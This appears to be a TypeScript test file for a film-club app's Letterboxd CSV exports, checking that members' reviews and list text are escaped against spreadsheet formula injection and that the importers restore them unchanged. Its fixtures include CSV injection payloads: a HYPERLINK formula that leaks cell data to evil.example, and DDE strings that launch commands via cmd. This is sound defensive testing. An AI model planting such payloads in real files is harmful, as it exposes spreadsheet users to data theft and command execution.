/**
 * CSV injection (OWASP) in Marquee's exports: `/export` (a member's history as Letterboxd CSVs) and `/list export`
 * (a list in Letterboxd's list format). Both are Letterboxd formats that members also open in spreadsheets, so
 * members' own text (reviews, a list's name, description and notes) starting with `=`, `+`, `-`, `@`, tab or CR is
 * prefixed with `'`; film titles, years, dates, URLs and ratings are left exactly as Letterboxd's importer expects
 * them. Marquee's own importers take the apostrophe off, so an export read back is unchanged.
 */
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ClubDiary } from '../../src/club/diary.js';
import { MemberImports } from '../../src/import/index.js';
import { parseListCsv } from '../../src/lists/csv/parse.js';
import { writeLetterboxdList } from '../../src/lists/csv/write.js';
import { neutralizeFormula, restoreFormula } from '../../src/spreadsheetFormulas.js';
import { createMemoryGuildStore } from '../../src/store/memoryStore.js';
import { ALICE, BOB, fixedClock, GUILD, testCatalog } from '../import/helpers.js';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const SEED = 190_019;

/** What a spreadsheet would evaluate: a cell whose first character starts a formula. */
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('neutralizing formulas', () => {
  it('prefixes every formula start, leaves other text alone', () => {
    for (const payload of PAYLOADS) expect(neutralizeFormula(payload)).toBe(`'${payload}`);
    for (const plain of ['Great film', '4.5', "'quoted'", '', ' =spaced', 'a=b']) expect(neutralizeFormula(plain)).toBe(plain);
    // A cell that already starts with quotes before a formula character gets one more, so restoring is exact.
    expect(neutralizeFormula("'=1")).toBe("''=1");
  });

  it(`is undone exactly by restoreFormula, and never leaves a formula start (fast-check seed ${SEED})`, () => {
    const text = fc.oneof(fc.string(), fc.constantFrom(...PAYLOADS), fc.tuple(fc.constantFrom("'", "''", '=', '+', '-', '@', '\t', '\r'), fc.string()).map(([head, rest]) => head + rest));
    fc.assert(
      fc.property(text, (value) => {
        const safe = neutralizeFormula(value);
        expect(startsFormula(safe)).toBe(false);
        expect(restoreFormula(safe)).toBe(value);
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });
});

describe('/export (member history, Letterboxd CSVs)', () => {
  it('neutralizes a hostile review in reviews.csv, keeps titles as they are, and reads back unchanged', async () => {
    const store = createMemoryGuildStore();
    const catalog = testCatalog();
    const clock = fixedClock(new Date('2024-03-01T18:30:00.000Z'));
    const imports = new MemberImports({ store, catalog, now: clock.now });
    const diary = new ClubDiary({ store, films: catalog, now: clock.now });
    const films = ['holy-motors-2012', 'parasite-2019', 'stalker-1979', 'heat-1995', 'irma-vep-1996', 'aftersun-2022'];
    for (const [i, payload] of PAYLOADS.entries()) {
      await diary.watch(ALICE, films[i]!, { on: '2024-02-10', stars: 4 });
      await diary.review(ALICE, films[i]!, { text: payload.trim() === payload ? payload : `${payload} with text after it` });
    }
    const exported = await imports.export(GUILD, ALICE.userId);
    const reviews = strFromU8(unzipSync(exported.zip)['reviews.csv']!);
    const rows = parse(reviews, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) {
      expect(startsFormula(row['Review']!), row['Review']).toBe(false);
      expect(row['Review']!.startsWith("'")).toBe(true);
      // Titles, years and URIs are what Letterboxd matches on: untouched.
      expect(catalog.get(films.find((id) => catalog.get(id)!.title === row['Name'])!)).toBeDefined();
    }
    expect(strFromU8(unzipSync(exported.zip)['README.txt']!)).toContain('starts with an apostrophe here');

    // Marquee's /import takes the apostrophe off: the reviews come back as written.
    const preview = await imports.preview(BOB, [{ name: exported.fileName, bytes: exported.zip }], { source: 'letterboxd' });
    await imports.apply(BOB, preview);
    const read = async (member: string) =>
      Object.values((await store.read(GUILD)).memberFilms[member] ?? {})
        .flatMap((record) => record.diary.map((entry) => entry.review?.text))
        .filter(Boolean)
        .sort();
    expect(await read(BOB.userId)).toEqual(await read(ALICE.userId));
  });
});

describe('/list export (Letterboxd list format)', () => {
  it("neutralizes the list's name, description and notes, keeps titles, and /list import reads it back unchanged", () => {
    const list = {
      date: '2024-01-01',
      name: '=HYPERLINK("http://evil.example","Best of")',
      description: '@SUM(1+1) is the plan',
      rows: [
        { position: 1, title: 'Stalker', year: 1979, url: 'https://letterboxd.com/film/stalker/', note: '-1+1' },
        { position: 2, title: '+1', year: 2013, note: 'plain note' },
        { position: 3, title: 'Heat', year: 1995, note: "'=already quoted" },
      ],
    };
    const text = writeLetterboxdList(list);
    const records = parse(text, { relax_column_count: true, skip_empty_lines: true }) as string[][];
    for (const record of records) for (const cell of record) if (!['+1'].includes(cell)) expect(startsFormula(cell), cell).toBe(false);
    expect(records[2]![1]).toBe(`'${list.name}`);
    // A title is left as it is, even one a spreadsheet would read as a number: Letterboxd matches on it.
    expect(records[5]![1]).toBe('+1');

    const parsed = parseListCsv(text);
    expect(parsed.meta).toMatchObject({ name: list.name, description: list.description });
    expect(parsed.rows.map((row) => row.note)).toEqual(['-1+1', 'plain note', "'=already quoted"]);
  });
});
